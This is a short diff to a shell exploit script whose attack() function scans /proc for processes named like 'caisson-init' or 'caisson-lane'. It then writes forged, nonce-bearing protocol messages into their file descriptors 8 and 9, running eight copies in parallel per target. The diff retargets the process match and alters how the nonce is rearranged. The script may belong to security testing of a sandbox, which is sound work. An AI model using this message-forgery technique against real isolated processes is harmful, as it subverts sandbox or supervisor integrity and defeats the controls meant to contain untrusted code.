@@ -9,6 +9,7 @@ attack() {
     set -- "$1" "$2" $request
     nonce=$4
     [ "$3" != _cz_now ] || nonce=$5
+    nonce=${nonce#*.}${nonce%.*}
     printf '%s+;FORGED\n%s:0:;' "$nonce" "$nonce" >"/proc/$2/fd/8"
     printf '%s;' "$nonce" >"/proc/$2/fd/9"
     set -- "$1" "$2"
@@ -17,7 +18,7 @@ attack() {
 
 for process in /proc/[0-9]*; do
   pid=${process#/proc/}
-  [ "$pid" -gt 1 ] && grep -q _cz_ready "$process/cmdline" 2>/dev/null || continue
+  [ "$pid" -gt 1 ] && grep -qE 'caisson-(init|lane)' "$process/cmdline" 2>/dev/null || continue
   for _ in 1 2 3 4 5 6 7 8; do attack "$1" "$pid" & done
 done
 wait
